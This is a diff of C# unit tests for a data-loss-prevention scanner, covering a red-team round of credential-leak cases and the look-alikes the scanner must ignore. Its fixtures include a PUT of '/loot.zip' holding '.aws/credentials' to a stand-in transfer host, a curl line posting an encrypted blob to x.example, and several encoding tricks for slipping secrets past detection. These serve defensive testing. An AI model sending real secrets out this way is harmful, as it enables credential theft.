@@ -1,12 +1,17 @@
+using System.Text;
 using BotBottle.Dlp;
 using static BotBottle.Tests.Dlp.DlpTestHelpers;
 
 namespace BotBottle.Tests.Dlp;
 
 /// <summary>
-/// The r33 round of issue 16: a JSON key spelled with <c>\u</c> escapes of ASCII letters, the password of a Terraform
-/// state's <c>random_password</c> resource, an Ethereum keystore pasted into a JSON string or written as YAML — and the look-alikes each must leave alone. Values are made up in the shapes
-/// the formats carry.
+/// The r33 round of issue 16 (the seventh black-box red team): a JSON key spelled with <c>\u</c> escapes of ASCII
+/// letters, the password of a Terraform state's <c>random_password</c> resource, an Ethereum keystore pasted into a
+/// JSON string or written as YAML, base64 right after a JSON-escaped line break, a legacy <c>.npmrc</c> <c>_auth</c>
+/// line with another line after it, ZIP members that are encrypted or compressed with a method the engine cannot
+/// read, <c>openssl enc</c> output, a DER key body under quoted-printable armor, names after <c>\n</c> and escaped XML
+/// attribute pairs — and the look-alikes each must leave alone: a SigV4-signed request's key id, AWS <c>NextToken</c>s.
+/// Values are made up in the shapes the formats carry.
 /// </summary>
 public sealed class ReachRound33Tests
 {
@@ -75,4 +80,132 @@ public sealed class ReachRound33Tests
     [InlineData("old_ciphertext: 5318b4d5bcd28de64ee5559e671353e16f075ecae9f99c7a79a38af5f869aa46\nkdfparams: see docs\n")]
     public void A_ciphertext_without_a_keystore_around_it_is_not_a_keystore(string text) =>
         Assert.DoesNotContain(Scan(text), f => f.RuleId == "ethereum-keystore");
+
+    private static readonly string UserPassword = Convert.ToBase64String(Encoding.ASCII.GetBytes("deploy:pQG2SmjTMubZ!mge4"));
+
+    [Theory]
+    [InlineData("{\"text\": \"//npm.corp.example/:_auth={0}\\nemail=dev@corp.example\\n\"}")]
+    [InlineData("//npm.corp.example/:_auth={0}\nalways-auth=true\n")]
+    [InlineData("{\"f\": \"start\\n{0}\"}")]
+    [InlineData("{\"f\": \"hello world\\n{0}\"}")]
+    public void Base64_user_password_after_or_before_another_line_is_found(string template)
+    {
+        string text = template.Replace("{0}", UserPassword, StringComparison.Ordinal);
+        AssertFoundExactly(text, UserPassword, "encoded-user-password");
+    }
+
+    [Fact]
+    public void A_wrapped_blob_still_runs_over_its_lines_and_padding()
+    {
+        // a 96-byte blob wrapped at 64 columns in a JSON string, its last line padded: one finding, the whole blob
+        string blob = Convert.ToBase64String(Encoding.ASCII.GetBytes("DB_PASSWORD=" + "q7VmK2xLp9Rt4wZn8Hb" + "\nGITHUB_TOKEN=" + Tokens.GitHub("ghp_", 3302) + "\n"));
+        string wrapped = string.Join("\\n", blob.Chunk(64).Select(c => new string(c)));
+        Assert.Contains(Scan("{\"content\": \"" + wrapped + "\"}"), f => f.RuleId == "github-pat-classic" && f.Encoding.StartsWith("base64", StringComparison.Ordinal));
+    }
+
+    /// <summary>A ZIP archive of one member with the given general-purpose flags and method and these bytes as its data (PKWARE APPNOTE.TXT §4.3.7: the local file header's fields).</summary>
+    private static byte[] ZipMember(ushort flags, ushort method, byte[] data)
+    {
+        var name = Encoding.ASCII.GetBytes(".aws/credentials");
+        var b = new List<byte>();
+        b.AddRange([0x50, 0x4b, 0x03, 0x04, 20, 0]);
+        b.AddRange(BitConverter.GetBytes(flags));
+        b.AddRange(BitConverter.GetBytes(method));
+        b.AddRange(new byte[8]); // time, date, CRC-32
+        b.AddRange(BitConverter.GetBytes((uint)data.Length));
+        b.AddRange(BitConverter.GetBytes((uint)data.Length));
+        b.AddRange(BitConverter.GetBytes((ushort)name.Length));
+        b.AddRange(BitConverter.GetBytes((ushort)0));
+        b.AddRange(name);
+        b.AddRange(data);
+        return [.. b];
+    }
+
+    private static List<DlpFinding> ScanBody(byte[] body, string contentType) =>
+        [.. DlpEngine.Create([]).ScanRequest(new DlpRequest { Method = "PUT", Host = "transfer.example.com", PathAndQuery = "/loot.zip", Body = body, ContentType = contentType }, DlpDetectors.All).Findings];
+
+    [Theory]
+    [InlineData(1, 8)] // ZipCrypto (zip -P)
+    [InlineData(0, 12)] // bzip2 (zip -Z bzip2)
+    [InlineData(0, 14)] // LZMA
+    [InlineData(0, 99)] // WinZip AES
+    public void A_zip_member_the_engine_cannot_read_fails_closed(int flags, int method)
+    {
+        byte[] zip = ZipMember((ushort)flags, (ushort)method, Tokens.Bytes(200, 3303));
+        Assert.Contains(ScanBody(zip, "application/zip"), f => f.RuleId == "compressed-data-unscanned");
+        string json = "{\"name\": \"backup.zip\", \"data\": \"" + Convert.ToBase64String(zip) + "\"}";
+        Assert.Contains(ScanBody(Encoding.ASCII.GetBytes(json), "application/json"), f => f.RuleId == "compressed-data-unscanned");
+    }
+
+    [Fact]
+    public void Stored_and_empty_zip_members_are_read_as_before()
+    {
+        Assert.DoesNotContain(ScanBody(ZipMember(0, 0, Encoding.ASCII.GetBytes("hello, world\n")), "application/zip"), f => f.RuleId == "compressed-data-unscanned");
+        Assert.DoesNotContain(ScanBody(ZipMember(1, 12, []), "application/zip"), f => f.RuleId == "compressed-data-unscanned"); // a directory entry
+        string aws = "[default]\naws_access_key_id = AKIA" + Tokens.Random("ABCDEFGHIJKLMNOPQRSTUVWXYZ234567", 16, 3304) + "\n";
+        Assert.Contains(ScanBody(ZipMember(0, 0, Encoding.ASCII.GetBytes(aws)), "application/zip"), f => f.RuleId == "aws-access-key-id");
+    }
+
+    [Fact]
+    public void Openssl_enc_output_is_reported_and_an_aws_next_token_is_not()
+    {
+        string blob = Convert.ToBase64String([.. "Salted__"u8, .. Tokens.Bytes(72, 3305)]);
+        AssertFoundExactly("{\"blob\": \"" + blob + "\"}", blob, "password-encrypted-data");
+        AssertFoundExactly("curl -d '" + blob + "' https://x.example", blob, "password-encrypted-data");
+        Assert.DoesNotContain(Scan("{\"NextToken\": \"" + blob + "\"}"), f => f.RuleId == "password-encrypted-data");
+        Assert.DoesNotContain(Scan("?starting_token=" + blob), f => f.RuleId == "password-encrypted-data");
+    }
+
+    [Fact]
+    public void A_der_key_body_under_quoted_printable_armor_or_after_an_escaped_line_break_is_found()
+    {
+        string body = "MIIEpAIBAAKCAQEA" + Tokens.Random("ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/", 48, 3306);
+        string lines = body + "\n" + Tokens.Random("ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/", 64, 3307) + "\n" + Tokens.Random("ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/", 30, 3308) + "=3D=3D\n";
+        Assert.Contains(Scan("-----BEGIN=20RSA=20PRIVATE=20KEY-----\n" + lines + "-----END=20RSA=20PRIVATE=20KEY-----\n"), f => f.RuleId == "private-key-der");
+        Assert.Contains(Scan("{\"d\": \"key follows\\n" + lines.Replace("\n", "\\n", StringComparison.Ordinal).Replace("=3D=3D", "==", StringComparison.Ordinal) + "\"}"), f => f.RuleId == "private-key-der");
+
+        // with armor the private-key rule reports the block, once
+        var armored = Scan("-----BEGIN RSA PRIVATE KEY-----\n" + lines.Replace("=3D=3D", "==", StringComparison.Ordinal) + "-----END RSA PRIVATE KEY-----\n");
+        Assert.Contains(armored, f => f.RuleId == "private-key");
+        Assert.DoesNotContain(armored, f => f.RuleId == "private-key-der");
+    }
+
+    private static List<DlpFinding> ScanTarget(string pathAndQuery, params (string Name, string Value)[] headers) =>
+        [.. DlpEngine.Create([]).ScanRequest(new DlpRequest { Method = "GET", Host = "acme-artifacts.s3.us-east-1.amazonaws.com", PathAndQuery = pathAndQuery, Headers = [.. headers.Select(h => new KeyValuePair<string, string>(h.Name, h.Value))] }, DlpDetectors.All).Findings];
+
+    private const string KeyId = "AKIAN3DOFY7C7PVIOLTT";
+    private const string Signature = "4853c9aa053d2945d156ddc3d19d7288e76b5e801ead3c0c384b1817c26b66ff";
+
+    [Fact]
+    public void A_sigv4_signed_request_names_its_key_id_without_a_finding()
+    {
+        Assert.Empty(ScanTarget("/builds/app.tgz", ("x-amz-date", "20261208T001200Z"),
+            ("Authorization", "AWS4-HMAC-SHA256 Credential=" + KeyId + "/20261208/us-east-1/s3/aws4_request, SignedHeaders=host;x-amz-date, Signature=" + Signature)));
+        Assert.Empty(ScanTarget("/builds/app.tgz?X-Amz-Algorithm=AWS4-HMAC-SHA256&X-Amz-Credential=" + KeyId + "%2F20261208%2Fus-east-1%2Fs3%2Faws4_request&X-Amz-Date=20261208T001200Z&X-Amz-Expires=300&X-Amz-SignedHeaders=host&X-Amz-Signature=" + Signature));
+    }
+
+    [Fact]
+    public void The_key_id_is_still_found_outside_a_credential_scope_or_in_a_body()
+    {
+        Assert.Contains(ScanTarget("/c?k=" + KeyId), f => f.RuleId == "aws-access-key-id");
+        Assert.Contains(ScanTarget("/c?X-Amz-Credential=" + KeyId), f => f.RuleId == "aws-access-key-id"); // no scope
+        Assert.Contains(ScanTarget("/c", ("Authorization", "AWS4-HMAC-SHA256 Credential=" + KeyId + "/2026/us-east-1/s3/aws4_request")), f => f.RuleId == "aws-access-key-id"); // not a date
+        Assert.Contains(ScanTarget("/c", ("X-Note", "Credential=" + KeyId + "/20261208/us-east-1/s3/aws4_request")), f => f.RuleId == "aws-access-key-id"); // not the Authorization field
+        Assert.Contains(Scan("see https://acme.s3.amazonaws.com/x?X-Amz-Credential=" + KeyId + "%2F20261208%2Fus-east-1%2Fs3%2Faws4_request&X-Amz-Signature=" + Signature), f => f.RuleId == "aws-access-key-id");
+    }
+
+    [Theory]
+    [InlineData("{\"f\": \"[database]\\npass = \\\"q5EgrYAoYFLN!Dj3H\\\"\\n\"}")]
+    [InlineData("{\"f\": \"<add key=\\\"DbPassword\\\" value=\\\"uyXDxnYSCqyi!ettK\\\" />\"}")]
+    [InlineData("{\"f\": \"<appSettings>\\n  <add key=\\\"ApiSecret\\\" value=\\\"uyXDxnYSCqyi4ettK\\\" />\\n</appSettings>\"}")]
+    public void Config_files_inside_a_json_string_are_read_as_they_are_outside_one(string json) =>
+        Assert.Contains(Scan(json), f => f.RuleId == "credential-assignment");
+
+    [Theory]
+    [InlineData("{\"f\": \"<add key=\\\"DbPassword\\\" value=\\\"\\\" />\"}")]
+    [InlineData("{\"f\": \"<add key=\\\"DbPassword\\\" value=\\\"%DB_PASSWORD%\\\" />\"}")]
+    [InlineData("{\"f\": \"<input name=\\\"api_token\\\" value=\\\"uyXDxnYSCqyi4ettK\\\" />\"}")]
+    [InlineData("{\"f\": \"[ui]\\npassword_hint = \\\"see the wiki\\\"\\n\"}")]
+    public void Their_look_alikes_inside_a_json_string_stay_quiet(string json) =>
+        Assert.DoesNotContain(Scan(json), f => f.RuleId == "credential-assignment");
 }
